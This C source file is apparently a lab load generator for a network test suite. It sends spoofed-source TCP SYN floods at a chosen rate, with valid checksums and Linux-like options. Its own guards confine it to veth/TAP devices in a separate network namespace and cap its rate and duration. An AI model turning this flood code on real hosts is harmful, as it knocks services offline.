/* SPDX-License-Identifier: BSD-3-Clause */
/* synflood.c: SYNs from forged sources at a given rate, for rivals.sh: what an attacker's machine
 * does, between namespaces of this one. It knows nothing of the engine.
 *
 * It sends on veth and TAP devices outside the first network namespace and nowhere else, and always
 * has an end. All that it was to send is in one of three figures: sent, refused (by the device, as
 * when the other side's backlog is full) and behind (never tried: this process was not run in
 * time). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <linux/ethtool.h>
#include <linux/if_packet.h>
#include <linux/sockios.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
	BURST = 32, /* frames of one call; at low rates fewer, so that one lasts a millisecond */
	BEHIND_MAX = 512, /* frames that are made good at once; a receiver's backlog holds 1,000 */
	FRAME_MAX = 14 + 40 + 40,
	OPTIONS = 20, /* MSS, SACK permitted, timestamps, NOP, window scale: as Linux sends them */
	SECONDS_MAX = 600,
	RATE_MAX = 5000000,
};

static const char usage[] =
    "usage: synflood --if IF --mac MAC --to ADDRESS:PORT --rate N [options]\n\n"
    "Sends SYNs from forged sources, each with Linux's options and right checksums.\n\n"
    "  --if IF            a veth or TAP device, in a network namespace that is not the first\n"
    "  --mac MAC          of the machine that is the next hop\n"
    "  --to ADDRESS:PORT  192.0.2.1:80 or [2001:db8::1]:80\n"
    "  --rate N           SYNs a second, 1 to 5000000\n"
    "  --seconds N        for so long, 1 to 600      } at least one of these;\n"
    "  --count N          so many                    } the first reached ends it\n"
    "  --from PREFIX/LEN  the sources; default 198.18.0.0/15 or 2001:db8:8000::/33\n"
    "  --seed N           of sources, ports and numbers; default 1\n"
    "  -h, --help         this\n\n"
    "SIGINT and SIGTERM end it, too. The last line says what was sent.\n";

struct target {
	int family;
	unsigned char addr[16], source[16]; /* source: the prefix */
	unsigned source_bits;
	uint16_t port;
};

struct plan {
	const char *device;
	unsigned char mac[6];
	struct target to;
	uint64_t rate, count, seconds, seed;
	bool has_from;
};

/* One frame of the flood, and the sums over what is the same in all of them. */
struct frame {
	unsigned char bytes[FRAME_MAX];
	size_t len, ip_len;
	uint32_t ip_sum, tcp_sum;
};

struct tally {
	uint64_t sent, refused, behind;
	double seconds;
};

static volatile sig_atomic_t ended;

static void on_signal(int number)
{
	(void)number;
	ended = 1;
}

/* --- words --- */

static bool read_number(const char *text, uint64_t min, uint64_t max, uint64_t *out)
{
	char *end;
	errno = 0;
	*out = strtoull(text, &end, 10);
	return text[0] >= '0' && text[0] <= '9' && !*end && !errno && *out >= min && *out <= max;
}

static bool read_address(const char *text, struct target *t)
{
	t->family = strchr(text, ':') ? AF_INET6 : AF_INET;
	return inet_pton(t->family, text, t->addr) == 1;
}

static bool read_target(char *text, struct target *t)
{
	char *colon = strrchr(text, ':');
	uint64_t port;
	if (!colon || !read_number(colon + 1, 1, 65535, &port))
		return false;
	*colon = 0;
	t->port = (uint16_t)port;
	size_t len = strlen(text);
	if (len > 2 && text[0] == '[' && text[len - 1] == ']') {
		text[len - 1] = 0;
		text++;
	}
	return read_address(text, t);
}

static bool read_prefix(char *text, struct target *t)
{
	char *slash = strchr(text, '/');
	uint64_t bits, max = t->family == AF_INET ? 32 : 128;
	if (!slash || !read_number(slash + 1, 1, max, &bits))
		return false;
	*slash = 0;
	t->source_bits = (unsigned)bits;
	return inet_pton(t->family, text, t->source) == 1;
}

static void default_prefix(struct target *t)
{
	char v4[] = "198.18.0.0/15", v6[] = "2001:db8:8000::/33";
	read_prefix(t->family == AF_INET ? v4 : v6, t);
}

static bool read_mac(const char *text, unsigned char mac[6])
{
	int end = 0;
	return sscanf(text, "%2hhx:%2hhx:%2hhx:%2hhx:%2hhx:%2hhx%n", &mac[0], &mac[1], &mac[2],
		      &mac[3], &mac[4], &mac[5], &end) == 6 &&
	       !text[end];
}

static int wrong(const char *what)
{
	fprintf(stderr, "synflood: %s; see --help\n", what);
	return 2;
}

/* 0, or the exit status. */
static int read_plan(struct plan *p, int argc, char **argv, bool *help)
{
	static const struct option longs[] = {
	    {"if", 1, NULL, 'i'},    {"mac", 1, NULL, 'm'},
	    {"to", 1, NULL, 't'},    {"rate", 1, NULL, 'r'},
	    {"count", 1, NULL, 'c'}, {"seconds", 1, NULL, 's'},
	    {"from", 1, NULL, 'f'},  {"seed", 1, NULL, 'e'},
	    {"help", 0, NULL, 'h'},  {0},
	};
	char *to = NULL, *from = NULL;
	bool good = true;
	int c;
	while ((c = getopt_long(argc, argv, "h", longs, NULL)) != -1) {
		if (c == 'h') {
			*help = true;
			return 0;
		}
		if (c == 'i')
			p->device = optarg;
		else if (c == 'm')
			good = read_mac(optarg, p->mac);
		else if (c == 't')
			to = optarg;
		else if (c == 'f')
			from = optarg;
		else if (c == 'r')
			good = read_number(optarg, 1, RATE_MAX, &p->rate);
		else if (c == 'c')
			good = read_number(optarg, 1, (uint64_t)RATE_MAX * SECONDS_MAX, &p->count);
		else if (c == 's')
			good = read_number(optarg, 1, SECONDS_MAX, &p->seconds);
		else if (c == 'e')
			good = read_number(optarg, 0, UINT64_MAX, &p->seed);
		else
			return 2;
		if (!good)
			return wrong("a value is out of its range");
	}
	if (optind < argc || !p->device || !to || !p->rate)
		return wrong("--if, --mac, --to and --rate are needed, and nothing else");
	if (!p->count && !p->seconds)
		return wrong("--count or --seconds is needed: a flood has an end");
	if (!read_target(to, &p->to))
		return wrong("--to wants ADDRESS:PORT");
	default_prefix(&p->to);
	if (from && !read_prefix(from, &p->to))
		return wrong("--from wants PREFIX/LEN of the same family as --to");
	return 0;
}

/* --- where it may send --- */

/* The weight of devices is one for the whole machine, so the kernel shows it in the first namespace
 * alone; the length of backlogs it shows in each. Who sees neither cannot know. */
static bool is_first_namespace(void)
{
	return access("/proc/sys/net/core/somaxconn", F_OK) != 0 ||
	       access("/proc/sys/net/core/dev_weight", F_OK) == 0;
}

static bool is_virtual(int fd, const char *device)
{
	struct ethtool_drvinfo info = {.cmd = ETHTOOL_GDRVINFO};
	struct ifreq req = {0};
	snprintf(req.ifr_name, sizeof(req.ifr_name), "%s", device);
	req.ifr_data = (void *)&info;
	return ioctl(fd, SIOCETHTOOL, &req) == 0 &&
	       (!strcmp(info.driver, "veth") || !strcmp(info.driver, "tun"));
}

static int refuse(const struct plan *p, const char *why)
{
	fprintf(stderr, "synflood: %s: %s\n", p->device, why);
	return -1;
}

/* A socket that sends on the device and receives nothing; -1 after a line that says why not. */
static int open_device(const struct plan *p, unsigned char own_mac[6])
{
	int one = 1, room = 8 << 20, fd;
	struct ifreq req = {0};
	if (strlen(p->device) >= IFNAMSIZ)
		return refuse(p, "no such device");
	if (is_first_namespace())
		return refuse(p, "not in a network namespace of its own (or nobody may know): "
				 "nothing is sent from here");
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (fd < 0)
		return refuse(p, strerror(errno));
	snprintf(req.ifr_name, sizeof(req.ifr_name), "%s", p->device);
	if (ioctl(fd, SIOCGIFHWADDR, &req) != 0)
		return refuse(p, strerror(errno));
	memcpy(own_mac, req.ifr_hwaddr.sa_data, 6);
	if (!is_virtual(fd, p->device))
		return refuse(p, "neither veth nor TAP: nothing is sent there");
	struct sockaddr_ll at = {.sll_family = AF_PACKET,
				 .sll_ifindex = (int)if_nametoindex(p->device)};
	if (bind(fd, (struct sockaddr *)&at, sizeof(at)) != 0)
		return refuse(p, strerror(errno));
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
	setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &room, sizeof(room));
	return fd;
}

/* --- frames --- */

static uint64_t draw(uint64_t *state)
{
	uint64_t x = *state += 0x9e3779b97f4a7c15;
	x = (x ^ x >> 30) * 0xbf58476d1ce4e5b9;
	x = (x ^ x >> 27) * 0x94d049bb133111eb;
	return x ^ x >> 31;
}

static void put16(unsigned char *p, uint32_t v)
{
	p[0] = (unsigned char)(v >> 8);
	p[1] = (unsigned char)v;
}

static void put32(unsigned char *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v);
}

static uint32_t sum(const unsigned char *p, size_t len, uint32_t from)
{
	for (size_t i = 0; i + 1 < len; i += 2)
		from += (uint32_t)p[i] << 8 | p[i + 1];
	return from;
}

static uint32_t fold(uint32_t s)
{
	s = (s & 0xffff) + (s >> 16);
	s = (s & 0xffff) + (s >> 16);
	return ~s & 0xffff;
}

/* All that does not change; what does is zero, and so are the checksums. */
static void make_frame(struct frame *f, const struct plan *p, const unsigned char own_mac[6])
{
	static const unsigned char option[OPTIONS] = {
	    2, 4, 1460 >> 8, 1460 & 255, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7};
	bool v4 = p->to.family == AF_INET;
	unsigned char *ip = f->bytes + 14, *tcp;
	size_t size = v4 ? 4 : 16;

	memset(f, 0, sizeof(*f));
	memcpy(f->bytes, p->mac, 6);
	memcpy(f->bytes + 6, own_mac, 6);
	put16(f->bytes + 12, v4 ? ETHERTYPE_IP : ETHERTYPE_IPV6);
	f->ip_len = v4 ? 20 : 40;
	f->len = 14 + f->ip_len + 20 + OPTIONS;
	if (v4) {
		ip[0] = 0x45;
		put16(ip + 2, (uint32_t)f->len - 14);
		ip[6] = 0x40; /* not to be fragmented */
		ip[8] = 64;
		ip[9] = IPPROTO_TCP;
		memcpy(ip + 16, p->to.addr, 4);
		f->ip_sum = sum(ip, 20, 0);
	} else {
		ip[0] = 0x60;
		put16(ip + 4, 20 + OPTIONS);
		ip[6] = IPPROTO_TCP;
		ip[7] = 64;
		memcpy(ip + 24, p->to.addr, 16);
	}
	tcp = ip + f->ip_len;
	put16(tcp + 2, p->to.port);
	tcp[12] = (20 + OPTIONS) / 4 << 4;
	tcp[13] = 2; /* SYN */
	put16(tcp + 14, 64240);
	memcpy(tcp + 20, option, OPTIONS);
	f->tcp_sum = sum(tcp, 20 + OPTIONS, sum(p->to.addr, size, IPPROTO_TCP + 20 + OPTIONS));
}

/* An address of the prefix: its first bits, the others drawn. */
static void draw_source(const struct target *t, uint64_t *state, unsigned char *out, size_t size)
{
	unsigned char noise[16];
	uint64_t a = draw(state), b = size > 8 ? draw(state) : 0;
	memcpy(noise, &a, 8);
	memcpy(noise + 8, &b, 8);
	for (size_t i = 0; i < size; i++) {
		unsigned kept = t->source_bits > 8 * i ? t->source_bits - (unsigned)(8 * i) : 0;
		unsigned char mask = (unsigned char)(kept >= 8 ? 255 : 255u << (8 - kept));
		out[i] = (unsigned char)((t->source[i] & mask) | (noise[i] & ~mask));
	}
}

static void vary(unsigned char *bytes, const struct frame *f, const struct target *t,
		 uint64_t *state)
{
	bool v4 = t->family == AF_INET;
	size_t size = v4 ? 4 : 16;
	unsigned char *ip = bytes + 14, *tcp = ip + f->ip_len, *source = ip + (v4 ? 12 : 8);
	uint64_t a = draw(state), b = draw(state);

	memcpy(bytes, f->bytes, f->len);
	draw_source(t, state, source, size);
	put16(tcp, 1024 + (uint32_t)(a >> 32) % 64512);
	put32(tcp + 4, (uint32_t)a);
	put32(tcp + 28, (uint32_t)b); /* TSval */
	uint32_t s = sum(source, size, f->tcp_sum);
	put16(tcp + 16, fold(sum(tcp + 28, 4, sum(tcp, 8, s - t->port))));
	if (v4) {
		put16(ip + 4, (uint32_t)(b >> 32));
		put16(ip + 10, fold(sum(ip + 12, 4, sum(ip + 4, 2, f->ip_sum))));
	}
}

/* --- sending --- */

static uint64_t now_ns(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000000 + (uint64_t)t.tv_nsec;
}

static void sleep_until(uint64_t at_ns)
{
	struct timespec t = {.tv_sec = (time_t)(at_ns / 1000000000),
			     .tv_nsec = (long)(at_ns % 1000000000)};
	clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &t, NULL);
}

/* n frames, n <= BURST. A frame that the device refuses is not tried again. 0, or -1: the device is
 * gone. */
static int send_burst(int fd, unsigned char bytes[][FRAME_MAX], size_t len, unsigned n,
		      struct tally *tally)
{
	struct mmsghdr msg[BURST];
	struct iovec io[BURST];
	memset(msg, 0, sizeof(msg));
	for (unsigned i = 0; i < n; i++) {
		io[i] = (struct iovec){.iov_base = bytes[i], .iov_len = len};
		msg[i].msg_hdr.msg_iov = &io[i];
		msg[i].msg_hdr.msg_iovlen = 1;
	}
	for (unsigned done = 0; done < n;) {
		int got = sendmmsg(fd, msg + done, n - done, MSG_DONTWAIT);
		if (got > 0) {
			tally->sent += (unsigned)got;
			done += (unsigned)got;
		} else if (errno == ENOBUFS || errno == EAGAIN) {
			tally->refused++;
			done++;
		} else if (errno != EINTR) {
			fprintf(stderr, "synflood: %s\n", strerror(errno));
			return -1;
		}
	}
	return 0;
}

static uint64_t smaller(uint64_t a, uint64_t b)
{
	return a < b ? a : b;
}

/* Bursts come when chance wills, one in each period on average: a regular flood would meet the
 * ticks by which kernels count time always, or never. */
static uint64_t next_ns(const struct plan *p, uint64_t done, uint64_t burst, uint64_t *state)
{
	double period = 1e9 / (double)p->rate;
	double chance = (double)(draw(state) >> 11) * 0x1p-53;
	return (uint64_t)(((double)done + 2 * chance * (double)burst) * period);
}

static int flood(int fd, const struct plan *p, const struct frame *f, struct tally *tally)
{
	unsigned char bytes[BURST][FRAME_MAX];
	uint64_t count = p->count ? p->count : UINT64_MAX, state = p->seed * 2 + 1;
	uint64_t burst = p->rate / 1000 + 1 < BURST ? p->rate / 1000 + 1 : BURST;
	uint64_t start = now_ns(), now = start, tried = 0;
	uint64_t end = start + (p->seconds ? p->seconds : SECONDS_MAX) * 1000000000;
	int rc = 0;

	while (!ended && rc == 0 && tried < count && now < end) {
		uint64_t due = (uint64_t)((double)(now - start) * 1e-9 * (double)p->rate) + 1;
		uint64_t done = tried + tally->behind, owed = due > done ? due - done : 0;
		if (owed > BEHIND_MAX) {
			tally->behind += owed - BEHIND_MAX;
			owed = BEHIND_MAX;
		}
		owed = smaller(owed, count - tried);
		for (uint64_t n; owed > 0 && rc == 0; owed -= n) {
			n = smaller(owed, BURST);
			for (unsigned i = 0; i < n; i++)
				vary(bytes[i], f, &p->to, &state);
			rc = send_burst(fd, bytes, f->len, (unsigned)n, tally);
			tried += n;
		}
		done = tried + tally->behind;
		sleep_until(smaller(end, start + next_ns(p, done, burst, &state)));
		now = now_ns();
	}
	tally->seconds = (double)(now - start) * 1e-9;
	return rc;
}

/* What the device says of itself, whoever sent: so that no drop is unseen. */
static uint64_t device_counts(const char *device, const char *what)
{
	char path[128];
	unsigned long long n = 0;
	snprintf(path, sizeof(path), "/sys/class/net/%s/statistics/%s", device, what);
	FILE *f = fopen(path, "r");
	if (f && fscanf(f, "%llu", &n) != 1)
		n = 0;
	if (f)
		fclose(f);
	return n;
}

int main(int argc, char **argv)
{
	struct plan plan = {.seed = 1};
	struct tally tally = {0};
	struct frame frame;
	unsigned char own_mac[6];
	bool help = false;
	int rc = read_plan(&plan, argc, argv, &help);
	if (help)
		fputs(usage, stdout);
	if (rc != 0 || help)
		return rc;
	int fd = open_device(&plan, own_mac);
	if (fd < 0)
		return 2;
	struct sigaction act = {.sa_handler = on_signal};
	sigaction(SIGINT, &act, NULL);
	sigaction(SIGTERM, &act, NULL);
	prctl(PR_SET_TIMERSLACK, 1);
	make_frame(&frame, &plan, own_mac);
	uint64_t left = device_counts(plan.device, "tx_packets");
	uint64_t dropped = device_counts(plan.device, "tx_dropped");
	rc = flood(fd, &plan, &frame, &tally);
	left = device_counts(plan.device, "tx_packets") - left;
	dropped = device_counts(plan.device, "tx_dropped") - dropped;
	printf("synflood: sent=%" PRIu64 " refused=%" PRIu64 " behind=%" PRIu64
	       " seconds=%.2f rate=%.0f device_sent=%" PRIu64 " device_dropped=%" PRIu64
	       " seed=%" PRIu64 "\n",
	       tally.sent, tally.refused, tally.behind, tally.seconds,
	       tally.seconds > 0 ? (double)tally.sent / tally.seconds : 0, left, dropped,
	       plan.seed);
	return rc ? 1 : 0;
}
